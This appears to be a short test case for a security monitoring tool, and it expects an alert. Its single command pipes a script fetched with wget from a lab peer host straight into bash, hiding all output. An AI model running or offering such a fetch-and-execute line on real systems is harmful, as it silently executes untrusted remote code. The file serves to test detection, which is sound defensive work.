# id: B10b
# title: wget feeds a shell that reads its commands from the pipe
# expect: alert
# severity: high
# kinds: process, network
# attck: T1105
# image: tools
# launch: app
# peers: http:8000

wget -q -T 5 -O - http://http:8000/a.sh | bash -s >/dev/null 2>&1
exit 0
